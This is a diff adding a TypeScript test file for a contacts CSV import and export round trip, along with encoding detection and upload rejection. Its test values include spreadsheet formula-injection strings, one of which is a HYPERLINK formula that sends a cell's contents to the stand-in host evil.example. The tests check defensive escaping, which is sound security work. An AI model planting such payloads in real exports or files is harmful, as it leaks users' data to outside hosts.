@@ -1,0 +1,100 @@
+import { createContactField, importLimits, startContactImport } from '@ozvi/contract'
+import { afterAll, expect, test } from 'vitest'
+import { importServer } from './test/import-server.ts'
+
+const { server, workspace } = await importServer()
+afterAll(() => server[Symbol.asyncDispose]())
+
+test('S2.04 SEC-45 what the export of contacts escapes is imported as it was', async () => {
+  const from = await workspace()
+  const values = [
+    '=1+1',
+    '＝1+1',
+    '-1;=HYPERLINK("https://evil.example/"&B1)',
+    "'=quoted",
+    'Ann|@sum; +2',
+    '"quoted", and more',
+    "O'Brien & sons; est. 1900",
+  ]
+  const field = { name: '＋Plan', type: 'text' } as const
+  const plan = await from.browser.call(createContactField, { integration_id: from.integration_id, ...field })
+  await from.run(
+    [
+      'email,company,＋Plan',
+      ...values.map((value, nth) => {
+        const cell = `"${value.replaceAll('"', '""').replace("'=", "''=")}"`
+        return `person-${nth}@example.com,${cell},${cell}`
+      }),
+    ].join('\n'),
+  )
+  const sourceRows = await from.people()
+  expect(new Set(sourceRows.map(({ company }) => company))).toEqual(new Set(values))
+  expect(new Set(sourceRows.map(({ fields }) => fields[plan.id]))).toEqual(new Set(values))
+
+  const { body } = await from.browser.request('GET', `/api/integration/${from.integration_id}/contact-export`)
+  const to = await workspace()
+  const copied = await to.browser.call(createContactField, { integration_id: to.integration_id, ...field })
+  const { data } = await to.upload(body)
+  const columns = data.columns.map(({ name, guess }) =>
+    ['email', 'company', '＋Plan'].includes(name) ? guess : null,
+  )
+  expect(columns).toContain(copied.id)
+  expect((await to.run(body, { columns })).failed).toBe(0)
+  const valuesByEmail = (rows: Awaited<ReturnType<typeof to.people>>, id: string) =>
+    new Map(rows.map(({ email, company, fields }) => [email, [company, fields[id]]]))
+  expect(valuesByEmail(await to.people(), copied.id)).toEqual(valuesByEmail(sourceRows, plan.id))
+})
+
+const text = 'Meno,Email\nŽofia Ďurčanská,zofia@example.com\n'
+const utf16 = (bytes: Buffer) => Uint8Array.from([0xff, 0xfe, ...bytes])
+/** Non-ASCII letters of the text in that code page. */
+const page1250: Record<string, number> = { Ž: 0x8e, Ď: 0xcf, č: 0xe8, á: 0xe1 }
+
+test.each([
+  ['UTF-8', text, 'utf-8'],
+  ['UTF-8 with its mark', `\ufeff${text}`, 'utf-8'],
+  ['UTF-16', utf16(Buffer.from(text, 'utf16le')), 'utf-16le'],
+  ['UTF-16 without a mark', Uint8Array.from(Buffer.from(text.replaceAll(',', '\t'), 'utf16le')), 'utf-16le'],
+  [
+    'windows-1250',
+    Uint8Array.from(Array.from(text.replaceAll(',', ';'), (sign) => page1250[sign] ?? sign.charCodeAt(0))),
+    'windows-1250',
+  ],
+])('a file in %s is read, whatever separates its columns', async (_, content, encoding) => {
+  const { upload } = await workspace()
+  const { data } = await upload(content)
+  expect(data).toMatchObject({
+    encoding,
+    import: { status: 'waiting', rows_total: 1 },
+    columns: [
+      { name: 'Meno', samples: ['Žofia Ďurčanská'], guess: 'name' },
+      { name: 'Email', samples: ['zofia@example.com'], guess: 'email' },
+    ],
+  })
+})
+
+test('422: a file without rows, with too many, or that is none is refused on its field; so is a plan that leads nowhere', async () => {
+  const { upload, browser, at } = await workspace()
+  const many = `email\n${'a@b.example\n'.repeat(importLimits.rows_max + 1)}`
+  const workbook = Uint8Array.from(Buffer.from('504b03041400060008000000210062ee9d68', 'hex'))
+  for (const content of ['email\n', many, 'a,"b\n'.repeat(30_000), workbook]) {
+    const reply = await upload(content)
+    expect([reply.status, Object.keys(reply.errors ?? {})], String(content.slice(0, 8))).toEqual([
+      422,
+      ['file'],
+    ])
+  }
+  const { data } = await upload('email,mail\na@b.example,c\n')
+  const start = (columns: (string | null)[]) =>
+    browser.call(startContactImport, { ...at(data.import.id), columns, match_by: 'email', on_known: 'skip' })
+  for (const columns of [
+    [null, null],
+    ['email', 'email'],
+    ['email', crypto.randomUUID()],
+    ['name', null],
+  ])
+    await expect(start(columns)).rejects.toMatchObject({
+      code: 'invalid_input',
+      errors: { columns: [expect.any(String)] },
+    })
+})
